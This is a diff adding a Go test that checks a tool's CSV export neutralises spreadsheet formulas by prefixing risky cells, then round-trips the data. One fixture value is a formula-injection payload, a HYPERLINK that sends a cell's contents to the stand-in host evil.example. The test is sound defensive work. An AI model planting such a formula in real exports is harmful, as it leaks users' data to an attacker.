@@ -1,6 +1,7 @@
 package main
 
 import (
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"slices"
@@ -274,4 +275,34 @@ func TestServerTakesWorkbooks(t *testing.T) {
 	bad := do(s, "POST", "/v1/evaluate", xlsxType, strings.NewReader(buf.String()))
 	require.Equal(t, 200, bad.Code)
 	assert.Contains(t, bad.Body.String(), `"table":"people","line":2,"column":3,"header":"level_since"`)
+}
+
+// TestConvertNeutralisesFormulas: the CSV tables convert writes hold no
+// live formula, and read back to the same names.
+func TestConvertNeutralisesFormulas(t *testing.T) {
+	dir := t.TempDir()
+	in := filepath.Join(dir, "in.jsonl")
+	var people strings.Builder
+	for i, name := range []string{`=HYPERLINK("http://evil.example/?"&B2,"pay")`, "'=already quoted", "-x", "'plain", "+1", "@sum", "''"} {
+		people.WriteString(`{"id": "p` + string(rune('a'+i)) + `", "name": ` + strconvQuote(name) + `, "level": "L1"}` + "\n")
+	}
+	require.NoError(t, os.WriteFile(in, []byte(people.String()), 0o644))
+	out := filepath.Join(dir, "tables")
+	r := runLadder(t, "", "convert", "--to", "csv", in, out)
+	require.Equal(t, exitOK, r.code, r.stderr)
+	csvText := readFile(t, filepath.Join(out, "people.csv"))
+	assert.Contains(t, csvText, `"'=HYPERLINK(""http://evil.example/?""&B2,""pay"")"`)
+	assert.Contains(t, csvText, `''=already quoted`)
+	assert.Contains(t, csvText, `,'-x,`)
+	assert.Contains(t, csvText, `,'plain,`)
+	assert.Contains(t, csvText, `,'@sum,`)
+	direct := runLadder(t, "", "convert", "--to", "jsonl", in, "-")
+	back := runLadder(t, "", "convert", "--to", "jsonl", out, "-")
+	require.Equal(t, exitOK, back.code, back.stderr)
+	assert.Equal(t, direct.stdout, back.stdout)
+}
+
+func strconvQuote(s string) string {
+	b, _ := json.Marshal(s)
+	return string(b)
 }
